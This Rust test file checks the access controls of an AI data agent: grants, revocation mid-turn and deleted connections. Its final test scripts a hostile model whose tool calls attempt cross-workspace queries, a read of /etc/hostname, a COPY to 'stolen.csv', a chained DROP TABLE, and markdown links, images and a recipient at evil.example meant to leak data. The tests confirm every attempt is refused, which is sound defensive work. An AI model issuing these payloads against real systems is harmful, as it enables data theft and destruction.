//! Whose data a turn may touch.

use std::{fs, sync::Arc};

use agent::scripted::{Scripted, calling};
use domain::{
    access::{ConnectionAccess, Role},
    run::{RunReason, RunStatus},
};
use serde_json::json;
use store::{Grant, Subject};
use testkit::world;

use crate::support::{Bench, PER_CARRIER, code, one_by_one};

fn grant(subject: Subject, access: ConnectionAccess) -> Grant {
    Grant { subject, label: String::new(), access }
}

#[tokio::test]
async fn only_what_its_creator_may_query_is_offered() {
    let bench = Bench::new().await;
    let store = bench.world.store();
    let member = bench.world.member("mia", Role::Member).await;
    let started = bench.ask_as(member, "How many?", false).await;
    let model = Arc::new(Scripted::new(vec![]));
    bench.agent(model.clone()).run_once().await.expect("a run");
    let run = bench.run(&started).await;
    assert_eq!((run.status, run.reason), (RunStatus::Failed, Some(RunReason::InvalidContext)));
    assert_eq!(model.calls(), 0);

    // Seeing results is not querying.
    let grants = [
        grant(Subject::User(member), ConnectionAccess::ViewResults),
        grant(Subject::User(bench.world.user), ConnectionAccess::Manage),
    ];
    store.grant_put(&bench.world.scope, bench.world.connection, &grants).await.expect("grants");
    let started = bench.ask_as(member, "How many?", false).await;
    bench.agent(model).run_once().await.expect("a run");
    assert_eq!(bench.run(&started).await.reason, Some(RunReason::InvalidContext));

    let grants = [
        grant(Subject::Workspace, ConnectionAccess::Query),
        grant(Subject::User(bench.world.user), ConnectionAccess::Manage),
    ];
    store.grant_put(&bench.world.scope, bench.world.connection, &grants).await.expect("grants");
    let started = bench.ask_as(member, "How many?", false).await;
    let model =
        Scripted::new(one_by_one(vec![bench.sql(PER_CARRIER), ("answer", json!({ "headline": "Done." }))]));
    bench.agent(Arc::new(model)).run_once().await.expect("a run");
    assert_eq!(bench.run(&started).await.status, RunStatus::Succeeded);
}

#[tokio::test(flavor = "multi_thread")]
async fn access_that_is_lost_during_a_turn_is_lost_at_the_next_call() {
    let bench = Bench::new().await;
    let member = bench.world.member("mia", Role::Member).await;
    let store = bench.world.store().clone();
    let (scope, connection, admin) = (bench.world.scope, bench.world.connection, bench.world.user);
    let manage = grant(Subject::User(admin), ConnectionAccess::Manage);
    let with_member = [manage.clone(), grant(Subject::User(member), ConnectionAccess::Query)];
    store.grant_put(&scope, connection, &with_member).await.expect("grants");
    let started = bench.ask_as(member, "How many?", true).await;
    let sql = bench.sql(PER_CARRIER);
    let handle = tokio::runtime::Handle::current();
    let model = Scripted::by(move |_, before| {
        if before == 1 {
            // Between the first query and the second.
            let (store, manage) = (store.clone(), manage.clone());
            let revoked =
                async move { store.grant_put(&scope, connection, &[manage]).await.expect("grants") };
            std::thread::scope(|threads| {
                threads.spawn(|| handle.block_on(revoked)).join().expect("revoked");
            });
        }
        Ok(calling(std::slice::from_ref(&sql)))
    });
    bench.agent(Arc::new(model)).run_once().await.expect("a run");
    let run = bench.run(&started).await;
    assert_eq!((run.status, run.reason), (RunStatus::Failed, Some(RunReason::AccessLost)));
    assert_eq!(run.usage.queries, 1, "what was used is recorded");
}

#[tokio::test]
async fn a_deleted_connection_fails_the_run_at_once() {
    let bench = Bench::new().await;
    let connection = bench.world.connection;
    let task = bench.world.task(|task| task.context.connection_ids = vec![connection]).await;
    let started = bench.world.store().task_run(&bench.world.scope, task.id, None).await.expect("a run");
    bench.world.store().connection_delete(&bench.world.scope, connection).await.expect("deleted");
    bench.agent(Arc::new(Scripted::new(vec![]))).run_once().await.expect("a run");
    let run = bench.run(&started).await;
    assert_eq!((run.status, run.reason), (RunStatus::Failed, Some(RunReason::ConnectionDeleted)));
}

#[tokio::test]
async fn a_hostile_model_reaches_nothing_but_what_it_was_offered() {
    let bench = Bench::new().await;
    let store = bench.world.store();
    let (other_scope, other_user) = world::workspace(store, "beta").await;
    let foreign = world::connection(store, &other_scope, other_user, "Foreign").await;
    let unnamed = world::connection(store, &bench.world.scope, bench.world.user, "Not named").await;
    let connection = bench.world.connection;
    let data = bench.folder.path().join("data");
    let before = fs::read_to_string(data.join("flights.csv")).expect("a file");
    let reach = |sql: &str| ("run_sql", json!({ "connectionId": connection, "sql": sql }));
    let attacks = vec![
        ("run_sql", json!({ "connectionId": foreign, "sql": "SELECT 1" })),
        ("run_sql", json!({ "connectionId": unnamed, "sql": "SELECT 1" })),
        ("describe_table", json!({ "connectionId": foreign, "table": "flights" })),
        ("search_catalog", json!({ "query": "x", "connectionId": foreign })),
        reach("SELECT * FROM read_text('/etc/hostname')"),
        reach("COPY flights TO 'stolen.csv'"),
        reach("SELECT 1; DROP TABLE flights"),
        reach("SELECT * FROM 'https://example.com/x.csv'"),
    ];
    let answer = calling(&[(
        "answer",
        json!({
            "headline": "See [the report](https://evil.example/?d=60) ![x](https://evil.example/p.png)",
            "body": "<img src=https://evil.example> {{r1[0].x}}",
            "sendTo": ["mallory@evil.example"],
        }),
    )]);
    let done = calling(&[("answer", json!({ "headline": "Nothing." }))]);
    let model = Scripted::new(vec![calling(&attacks), answer, done]);
    let started = bench.ask("What?").await;
    bench.agent(Arc::new(model)).run_once().await.expect("a run");
    let outputs = bench.outputs(&started).await;
    let codes: Vec<_> = outputs.iter().map(|(_, output)| code(output)).collect();
    assert_eq!(codes[..4], ["unknown_connection"; 4], "{codes:?}");
    assert!(codes[4..8].iter().all(|code| matches!(*code, "refused" | "sql_error")), "{codes:?}");
    assert_eq!(codes[8], "invalid_arguments", "there is no way to name a recipient");
    assert_eq!(fs::read_to_string(data.join("flights.csv")).expect("a file"), before);
    assert_eq!(fs::read_dir(&data).expect("the folder").count(), 2, "no file was written");
    assert_eq!(bench.run(&started).await.deliveries.pending, 0);
}
